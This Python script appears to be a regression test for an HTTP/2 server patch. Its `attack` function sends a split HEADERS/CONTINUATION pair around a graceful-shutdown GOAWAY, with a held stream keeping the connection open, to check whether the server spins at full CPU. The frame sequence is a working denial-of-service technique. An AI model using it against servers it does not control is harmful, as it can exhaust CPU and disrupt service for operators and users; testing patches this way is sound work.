#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Defect 2: one HTTP/2 client makes a server that shuts down gracefully spin
at 100 % CPU (patch 002).

HEADERS without END_HEADERS, then the GOAWAY of the shutdown, then the
CONTINUATION: parse_input consumes zero bytes of it, for ever. Another stream
whose response cannot be sent (a window of 0) keeps the connection alive until
then."""

import argparse
import os
import signal
import sys

from hyperframe.frame import SettingsFrame

from rawh2 import Closed, Connection, Outcome

HELD, SPLIT = 1, 3              # stream ids
NOTICE = 2**31 - 1              # last-stream-id of the shutdown's first GOAWAY


def attack(host, port, path="/", headers=None, begin_shutdown=lambda: None, timeout_s=10.0,
           answer_timeout_s=3.0, tls=None):
    """begin_shutdown() starts the graceful shutdown of every process that may
    serve this connection; GET `path` must have a body. Survived: the split
    request is answered, and so is the one that was held back."""
    try:
        with Connection(host, port, initial_window=0, timeout_s=timeout_s, tls=tls) as conn:
            return _attack(conn, path, headers, begin_shutdown, answer_timeout_s)
    except Closed as e:
        return Outcome(False, "connection lost (%s)" % e)


def _attack(conn, path, headers, begin_shutdown, answer_timeout_s):
    held = conn.get_frame(HELD, path, headers)
    head, continuation = conn.split_get_frames(SPLIT, path, headers)
    conn.send(held)
    if not conn.read_until(lambda: conn.streams[HELD].status != 0):
        return Outcome(False, "no answer before the shutdown")
    conn.send(head)

    begin_shutdown()
    if not conn.read_until(lambda: any(g.last_stream_id != NOTICE for g in conn.goaways)):
        return Outcome(False, "no final GOAWAY in %g s" % conn.timeout_s)
    last = conn.goaways[-1].last_stream_id
    if last < SPLIT:
        return Outcome(False, "the GOAWAY covers stream %d only" % last)

    conn.send(continuation)
    if not conn.read_until(lambda: conn.streams[SPLIT].status != 0, answer_timeout_s):
        return Outcome(False, "no answer to the CONTINUATION in %g s" % answer_timeout_s)

    conn.send(SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 20}))
    try:
        conn.read_until(lambda: all(s.ended for s in conn.streams.values()))
    except Closed:
        pass                    # as it should: nothing is left to serve
    open_ids = [i for i, s in conn.streams.items() if not s.ended]
    if open_ids:
        return Outcome(False, "streams never ended: %s" % open_ids)
    return Outcome(True, "both requests answered (%d, %d)" % (
        conn.streams[HELD].status, conn.streams[SPLIT].status))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--path", default="/")
    ap.add_argument("--header", action="append", default=[], metavar="NAME:VALUE")
    ap.add_argument("--pid", type=int, required=True, help="whom to signal")
    ap.add_argument("--signal", default="SIGUSR1", help="what begins the graceful shutdown")
    args = ap.parse_args()
    outcome = attack(args.host, args.port, args.path,
                     dict(h.split(":", 1) for h in args.header),
                     lambda: os.kill(args.pid, signal.Signals[args.signal]))
    print(outcome)
    return 0 if outcome.survived else 1


if __name__ == "__main__":
    sys.exit(main())
